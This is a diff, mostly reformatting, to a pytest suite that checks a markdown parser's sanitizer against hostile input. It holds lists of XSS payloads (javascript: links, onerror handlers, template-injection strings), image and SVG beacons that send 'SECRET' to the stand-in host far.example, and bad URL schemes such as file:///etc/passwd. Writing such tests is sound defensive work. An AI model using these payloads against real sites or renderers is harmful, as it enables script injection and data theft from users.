@@ -35,7 +35,7 @@ PAYLOADS = (
     "<javascript:pwned()>",
     "[x][1]\n\n[1]: javascript:pwned()",
     'https://far.example/"onmouseover="pwned()',
-    "<https://far.example/\"onclick=pwned()>",
+    '<https://far.example/"onclick=pwned()>',
     '```"><img src=x onerror=pwned()>\ncode\n```',
     "```mermaid\ngraph TD; A[<img src=x onerror=pwned()>]\n```",
     "$\\href{javascript:pwned()}{x}$",
@@ -69,7 +69,7 @@ PAYLOADS = (
     "{{constructor.constructor('pwned()')()}}",
     "${pwned()}",
     "<%= pwned() %>",
-    "\"><script>pwned()</script>",
+    '"><script>pwned()</script>',
     "'-pwned()-'",
     "[a](<javascript:pwned()>)",
     "![x](javascript:pwned())",
@@ -85,7 +85,7 @@ PAYLOADS = (
     "<svg><image href=http://far.example/SECRET /></svg>",
     "<svg><use href='http://far.example/SECRET#x'/></svg>",
     "![x](//far.example/SECRET)",
-    "![x](https://far.example/SECRET.png \"t\")",
+    '![x](https://far.example/SECRET.png "t")',
     "[![x](http://far.example/SECRET)](http://far.example)",
     "<table background=http://far.example/SECRET><tr><td>x</table>",
 )
@@ -144,7 +144,9 @@ def test_no_payload_becomes_anything_but_known_nodes_with_addresses_of_the_web(n
         for one in nodes(tree):
             assert one["t"] in _LINK_FREE, payload
             assert "href" not in one or one["href"].startswith(("http://", "https://", "mailto:")), payload
-        assert not any("pwned" in one.get("href", "") and "(" in one["href"] for one in nodes(tree) if one["t"] == "img")
+        assert not any(
+            "pwned" in one.get("href", "") and "(" in one["href"] for one in nodes(tree) if one["t"] == "img"
+        )
 
 
 def test_the_text_of_a_payload_remains_to_be_read(node: str) -> None:
@@ -164,7 +166,18 @@ def test_a_link_whose_words_are_not_its_address_names_its_host(node: str) -> Non
     assert hosts == ["far.example", ""]
 
 
-@pytest.mark.parametrize("bad", ["javascript:alert(1)", "data:text/html,x", "//far.example", "/local", "file:///etc/passwd", "blob:x", "http://a:b@c/"])
+@pytest.mark.parametrize(
+    "bad",
+    [
+        "javascript:alert(1)",
+        "data:text/html,x",
+        "//far.example",
+        "/local",
+        "file:///etc/passwd",
+        "blob:x",
+        "http://a:b@c/",
+    ],
+)
 def test_only_web_and_mail_addresses_are_links(node: str, bad: str) -> None:
     assert run(node, "values.map((one) => md.safeUrl(one) === null)", bad) == [True]
     assert run(node, "values.map((one) => md.safeUrl(one) === null)", "https://ok.example/") == [False]  # the control
@@ -191,7 +204,9 @@ def test_text_that_grows_letter_by_letter_never_breaks_the_parser(node: str) -> 
     assert len(trees) == len(text) + 1 and trees[-1]
 
 
-@pytest.mark.parametrize("piece", ["[", "*a", "`", "![", "<", "_a ", "**a*", "> ", "- ", "|a", "http://", "(", "[1](", "#"])
+@pytest.mark.parametrize(
+    "piece", ["[", "*a", "`", "![", "<", "_a ", "**a*", "> ", "- ", "|a", "http://", "(", "[1](", "#"]
+)
 def test_a_long_hostile_text_is_read_in_a_second(node: str, piece: str) -> None:
     made = "values.map(([piece, n]) => { const text = piece.repeat(n); const since = Date.now(); md.parse(text); return Date.now() - since; })"
     (milliseconds,) = run(node, made, [piece, 100_000 // len(piece)])
